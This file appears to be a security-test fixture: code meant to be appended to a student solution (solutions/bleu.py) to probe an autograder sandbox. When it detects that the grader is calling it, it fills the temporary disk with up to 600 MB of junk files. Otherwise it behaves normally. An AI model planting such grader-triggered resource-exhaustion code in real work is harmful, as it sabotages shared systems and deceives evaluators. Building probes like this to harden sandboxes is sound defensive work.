# hostile: appended to solutions/bleu.py
# A44: fill the disk. Files of 16 MiB (the largest one file may be) in the worker's TMPDIR or /tmp, until 600 MB are
# written or a write fails; the probe reports how much went to disk.
import json as _json
import os as _os
import sys as _sys

# @@RUNTIME_NAMES@@

FOLDER, TOTAL, CHUNK = "@@FOLDER@@", 600 * 10 ** 6, 16 * 2 ** 20
_reference_ngram_counts = ngram_counts


def _flood() -> dict:
    folder = _os.environ["TMPDIR"] if FOLDER == "TMPDIR" else FOLDER
    block, written, error = b"x" * 2 ** 20, 0, None
    try:
        for i in range(TOTAL // CHUNK + 1):
            with open(_os.path.join(folder, f"captionkit-A44-{_os.getpid()}-{i}"), "wb") as f:
                for _ in range(CHUNK // len(block)):
                    f.write(block)
                    written += len(block)
                    if written >= TOTAL:
                        return {"written": written, "error": error}
    except OSError as exc:
        error = type(exc).__name__ + f" {exc.errno}"
    return {"written": written, "error": error}


def ngram_counts(tokens, n):
    if _caller_globals(1).get("__name__", "").startswith("autograder."):  # the grader's own call
        raise RuntimeError("PROBE" + _json.dumps(_flood()))
    return _reference_ngram_counts(tokens, n)
